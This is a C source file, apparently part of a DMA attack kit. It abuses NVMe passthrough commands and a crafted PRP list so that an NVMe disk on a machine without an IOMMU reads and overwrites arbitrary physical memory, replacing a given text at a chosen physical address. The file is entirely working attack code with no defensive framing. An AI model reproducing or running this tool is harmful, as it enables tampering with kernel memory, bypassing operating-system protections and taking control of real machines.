// SPDX-License-Identifier: GPL-2.0
/*
 * nvme-dma NODE WAY PHYSICAL OLD NEW: replaces the text OLD by NEW (of the same length) in the memory at PHYSICAL,
 * through an NVMe disk of at least 64 MiB without an IOMMU, by plain reads and writes that come by WAY (see nvme.h).
 *
 * A command for three pages without a buffer has zeros for its two addresses. The first is the address of a page, the
 * second that of a list with the other pages' addresses: both are page 0, whose content is first read from the disk.
 */

#include "dma-disk.h"
#include "nvme.h"

#define WRITE 1
#define READ  2

/* The parts of the disk, in pages. */
enum { LIST = 1024, SEEN = 1032, CHANGED = 1040 };

static int transfer(const struct nvme_way *way, int node, int opcode, unsigned long at,
		    unsigned long pages)
{
	const struct nvme_passthru_cmd64 what = {
		.opcode = (uint8_t)opcode,
		.nsid = 1,
		.cdw10 = (uint32_t)(at * BLOCKS),
		.cdw12 = (uint32_t)(pages * BLOCKS - 1),
	};
	int ret = send_command(way, node, &what);

	if (ret)
		fprintf(stderr, "nvme-dma: %s\n", ret < 0 ? strerror(-ret) : "the device refuses");
	return ret;
}

/* Also the content that is read into page 0 a second time, while the list is in use. */
static int write_list(uint64_t target)
{
	memset(page, 0, PAGE);
	((uint64_t *)(void *)page)[0] = target;
	return copy_page(LIST, 1) || copy_page(CHANGED, 1) || copy_page(CHANGED + 2, 1);
}

int main(int argc, char **argv)
{
	const struct nvme_way *way = argc == 6 ? find_way(argv[2]) : NULL;
	int node;

	if (!way)
		return 2;
	node = open(argv[1], O_RDWR | O_CLOEXEC);
	if (node < 0 || open_disk("/dev/nvme0n1") ||
	    write_list(strtoull(argv[3], NULL, 16) & ~(PAGE - 1))) {
		perror("nvme-dma");
		return 1;
	}
	if (transfer(way, node, READ, LIST, 1) || transfer(way, node, WRITE, SEEN, 3) ||
	    copy_page(SEEN + 1, 0) || replace(argv[4], argv[5]) || copy_page(CHANGED + 1, 1))
		return 1;
	return transfer(way, node, READ, CHANGED, 3) != 0;
}
